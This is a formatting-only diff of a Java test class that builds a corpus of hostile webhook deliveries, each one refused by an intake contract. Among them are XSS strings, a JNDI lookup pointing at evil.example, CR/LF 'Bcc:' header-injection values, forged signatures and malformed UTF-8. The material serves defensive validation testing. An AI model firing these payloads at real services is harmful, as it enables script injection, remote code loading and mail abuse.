@@ -13,10 +13,11 @@ import java.util.Random;
 import dev.politely.intake.Fixtures.Signed;
 
 /**
- * A deterministic corpus of hostile webhook deliveries (seeded), every one of which the contract refuses: truncated
- * bodies, deep nesting, odd numbers, wrong types, invalid UTF-8, control characters, oversized fields, hostile HTML
- * and header injection, replayed signatures, skewed timestamps, wrong content types. Each delivery says what the
- * contract answers it: 415, then 413, then 401, then 400, the first check that fails.
+ * A deterministic corpus of hostile webhook deliveries (seeded), every one of which the
+ * contract refuses: truncated bodies, deep nesting, odd numbers, wrong types, invalid
+ * UTF-8, control characters, oversized fields, hostile HTML and header injection,
+ * replayed signatures, skewed timestamps, wrong content types. Each delivery says what
+ * the contract answers it: 415, then 413, then 401, then 400, the first check that fails.
  */
 public final class HostileCorpus {
 
@@ -41,13 +42,19 @@ public final class HostileCorpus {
 	}
 
 	/**
-	 * One hostile delivery: where it goes, its headers and body, and the status the contract gives it.
-	 * @param skew for a skewed timestamp, how far from the time of sending it is signed; else null
+	 * One hostile delivery: where it goes, its headers and body, and the status the
+	 * contract gives it.
+	 *
+	 * @param skew for a skewed timestamp, how far from the time of sending it is signed;
+	 * else null
 	 */
 	public record Delivery(String category, String ownerId, String contentType, String webhookId, String timestamp,
 			String signature, byte[] body, int expected, Long skew) {
 
-		/** As sent now: a skewed timestamp is signed again right before sending, so that the skew is exact. */
+		/**
+		 * As sent now: a skewed timestamp is signed again right before sending, so that
+		 * the skew is exact.
+		 */
 		public Delivery at(Instant sendingAt) {
 			if (this.skew == null) {
 				return this;
@@ -102,14 +109,14 @@ public final class HostileCorpus {
 	}
 
 	private void oddNumbers() {
-		String[] numbers = { "1e400", "-1e400", "1180591620717411303424", "-1180591620717411303424", "-0", "0",
-				"601", "1.5", "1e-400", "0.0000001", "1" + "0".repeat(99), "1" + "0".repeat(200), "NaN", "-NaN",
-				"Infinity", "-Infinity", "\"NaN\"", "\"30\"", "0x1E", "01", "+5", ".5", "5.", "1e", "--1" };
+		String[] numbers = { "1e400", "-1e400", "1180591620717411303424", "-1180591620717411303424", "-0", "0", "601",
+				"1.5", "1e-400", "0.0000001", "1" + "0".repeat(99), "1" + "0".repeat(200), "NaN", "-NaN", "Infinity",
+				"-Infinity", "\"NaN\"", "\"30\"", "0x1E", "01", "+5", ".5", "5.", "1e", "--1" };
 		for (String number : numbers) {
 			signed("numbers", utf8(valid().with("estimatedMinutes", number).json()), 400);
 		}
-		for (String number : new String[] { "1e400", "1180591620717411303424", "-1", "100001", "1.5", "NaN",
-				"\"14\"", "1" + "0".repeat(200) }) {
+		for (String number : new String[] { "1e400", "1180591620717411303424", "-1", "100001", "1.5", "NaN", "\"14\"",
+				"1" + "0".repeat(200) }) {
 			signed("numbers", utf8(valid().withRequester("mutualConnections", number).json()), 400);
 		}
 	}
@@ -164,13 +171,17 @@ public final class HostileCorpus {
 		signed("types", utf8(valid().withRequester("name", null).json()), 400);
 	}
 
-	/** Bytes that are not UTF-8, spliced into the message: overlong forms, surrogates, truncated sequences. */
+	/**
+	 * Bytes that are not UTF-8, spliced into the message: overlong forms, surrogates,
+	 * truncated sequences.
+	 */
 	private void invalidUtf8() {
 		byte[][] sequences = { { (byte) 0xFF }, { (byte) 0xFE }, { (byte) 0xC0, (byte) 0xAF },
 				{ (byte) 0xC1, (byte) 0xBF }, { (byte) 0xE0, (byte) 0x80, (byte) 0xAF },
 				{ (byte) 0xF0, (byte) 0x80, (byte) 0x80, (byte) 0xAF }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
-				{ (byte) 0xED, (byte) 0xBF, (byte) 0xBF }, { (byte) 0xED, (byte) 0xA0, (byte) 0xBD, (byte) 0xED,
-						(byte) 0xB8, (byte) 0x80 }, { (byte) 0xE2, (byte) 0x82 }, { (byte) 0x80 },
+				{ (byte) 0xED, (byte) 0xBF, (byte) 0xBF },
+				{ (byte) 0xED, (byte) 0xA0, (byte) 0xBD, (byte) 0xED, (byte) 0xB8, (byte) 0x80 },
+				{ (byte) 0xE2, (byte) 0x82 }, { (byte) 0x80 },
 				{ (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 },
 				{ (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 }, { (byte) 0xC3 } };
 		for (byte[] sequence : sequences) {
@@ -182,8 +193,7 @@ public final class HostileCorpus {
 			signed("utf8", splice(utf8(valid().withRequester("name", "\"" + marker + "\"").json()), marker, sequence),
 					400);
 			// in a key
-			signed("utf8", splice(utf8("{\"" + marker + "\":1," + valid().json().substring(1)), marker, sequence),
-					400);
+			signed("utf8", splice(utf8("{\"" + marker + "\":1," + valid().json().substring(1)), marker, sequence), 400);
 		}
 		// a byte order mark is not JSON
 		signed("utf8", concat(new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF }, utf8(valid().json())), 400);
@@ -204,10 +214,11 @@ public final class HostileCorpus {
 			signed("control", utf8(valid().with("extra", "[\"" + nul + "\"]").json()), 400);
 		}
 		for (String breakChars : new String[] { "\\r", "\\n", "\\r\\n", "\r", "\n", "\r\n", "\\u000d", "\\u000A" }) {
-			signed("control", utf8(valid().withRequester("name", "\"Eve" + breakChars + "Bcc: x@evil.example\"").json()),
+			signed("control",
+					utf8(valid().withRequester("name", "\"Eve" + breakChars + "Bcc: x@evil.example\"").json()), 400);
+			signed("control", utf8(
+					valid().withRequester("email", "\"eve@example.org" + breakChars + "Bcc: x@evil.example\"").json()),
 					400);
-			signed("control", utf8(valid().withRequester("email",
-					"\"eve@example.org" + breakChars + "Bcc: x@evil.example\"").json()), 400);
 		}
 		for (char control : new char[] { 0x01, 0x07, 0x08, 0x0B, 0x1B, 0x1F }) {
 			// raw control characters are not allowed inside JSON strings
@@ -224,12 +235,15 @@ public final class HostileCorpus {
 			signed("oversized", utf8(valid().withRequester(field, quoted("x".repeat(length))).json()), 400);
 			signed("oversized", utf8(valid().withRequester(field, quoted("é".repeat(length))).json()), 400);
 		});
-		signed("oversized", utf8(valid().withRequester("email", quoted("a".repeat(243) + "@example.org")).json()),
+		signed("oversized", utf8(valid().withRequester("email", quoted("a".repeat(243) + "@example.org")).json()), 400);
+		signed("oversized",
+				utf8(valid().withRequester("profileUrl", quoted("https://example.org/" + "p".repeat(2030))).json()),
 				400);
-		signed("oversized", utf8(valid().withRequester("profileUrl",
-				quoted("https://example.org/" + "p".repeat(2030))).json()), 400);
-		signed("oversized", utf8(valid().with("reply",
-				"{\"callbackUrl\":" + quoted("https://example.org/" + "p".repeat(2030)) + "}").json()), 400);
+		signed("oversized",
+				utf8(valid()
+					.with("reply", "{\"callbackUrl\":" + quoted("https://example.org/" + "p".repeat(2030)) + "}")
+					.json()),
+				400);
 		signed("oversized", utf8(valid().with("message", quoted("m".repeat(5001))).json()), 400);
 		signed("oversized", utf8(valid().with("message", quoted("€".repeat(5001))).json()), 400);
 		signed("oversized", utf8(valid().with("platform", quoted("p".repeat(41))).json()), 400);
@@ -239,7 +253,10 @@ public final class HostileCorpus {
 		signed("oversized", utf8(" ".repeat(MAX_BODY + 1)), 413);
 	}
 
-	/** Script and header-injection payloads, where the contract refuses them: with CR or LF in name or email. */
+	/**
+	 * Script and header-injection payloads, where the contract refuses them: with CR or
+	 * LF in name or email.
+	 */
 	private void hostileText() {
 		String[] payloads = { "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
 				"</title><script>document.location='https://evil.example'</script>", "${jndi:ldap://evil.example/a}",
@@ -266,7 +283,10 @@ public final class HostileCorpus {
 		}
 	}
 
-	/** A valid signature kept while the body, the timestamp or the id changed: not the owner's delivery. */
+	/**
+	 * A valid signature kept while the body, the timestamp or the id changed: not the
+	 * owner's delivery.
+	 */
 	private void replayedSignatures() {
 		for (String example : EXAMPLES) {
 			byte[] body = Fixtures.example(example);
@@ -290,8 +310,8 @@ public final class HostileCorpus {
 					signed.signature().substring(0, signed.signature().length() - 4), body, 401);
 			add("replay", "application/json", signed.webhookId(), signed.timestamp(), "", body, 401);
 			add("replay", "application/json", signed.webhookId(), signed.timestamp(), "v1,", body, 401);
-			add("replay", "application/json", signed.webhookId(), signed.timestamp(), "v1," + "A".repeat(4_000),
-					body, 401);
+			add("replay", "application/json", signed.webhookId(), signed.timestamp(), "v1," + "A".repeat(4_000), body,
+					401);
 		}
 	}
 
@@ -320,9 +340,9 @@ public final class HostileCorpus {
 	private void wrongContentTypes() {
 		byte[] body = Fixtures.example("connection-ghost.json");
 		for (String type : new String[] { null, "text/plain", "text/html", "application/xml",
-				"application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=latin1",
-				"application/json; charset=utf-16", "application/jsonx", "json", "application/json; charset=nope",
-				"*/*" }) {
+				"application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
+				"application/json; charset=latin1", "application/json; charset=utf-16", "application/jsonx", "json",
+				"application/json; charset=nope", "*/*" }) {
 			Signed signed = Signed.at(Fixtures.ALICE_SECRET, nextId(), this.now, body);
 			add("content-type", type, signed.webhookId(), signed.timestamp(), signed.signature(), body, 415);
 		}
@@ -330,11 +350,11 @@ public final class HostileCorpus {
 
 	private void unknownOwners() {
 		byte[] body = Fixtures.example("connection-ghost.json");
-		for (String owner : new String[] { "mallory", "bob", "ALICE", "alice.", "a", "x".repeat(64), "alice-",
-				"_alice", "alice%20", "%C3%A9" }) {
+		for (String owner : new String[] { "mallory", "bob", "ALICE", "alice.", "a", "x".repeat(64), "alice-", "_alice",
+				"alice%20", "%C3%A9" }) {
 			Signed signed = Signed.at(Fixtures.ALICE_SECRET, nextId(), this.now, body);
-			this.deliveries.add(new Delivery("owner", owner, "application/json", signed.webhookId(),
-					signed.timestamp(), signed.signature(), body, 401, null));
+			this.deliveries.add(new Delivery("owner", owner, "application/json", signed.webhookId(), signed.timestamp(),
+					signed.signature(), body, 401, null));
 		}
 	}
 
@@ -370,8 +390,8 @@ public final class HostileCorpus {
 			byte[] body, int expected) {
 		// the size is checked before the signature and the body
 		int status = (expected != 415 && body.length > MAX_BODY) ? 413 : expected;
-		this.deliveries.add(
-				new Delivery(category, OWNER, contentType, webhookId, timestamp, signature, body, status, null));
+		this.deliveries
+			.add(new Delivery(category, OWNER, contentType, webhookId, timestamp, signature, body, status, null));
 	}
 
 	private String nextId() {
@@ -382,7 +402,9 @@ public final class HostileCorpus {
 		return new Body();
 	}
 
-	/** A valid solicitation, as raw JSON values, to make exactly one thing wrong in it. */
+	/**
+	 * A valid solicitation, as raw JSON values, to make exactly one thing wrong in it.
+	 */
 	private static final class Body {
 
 		private final Map<String, String> fields = new LinkedHashMap<>();
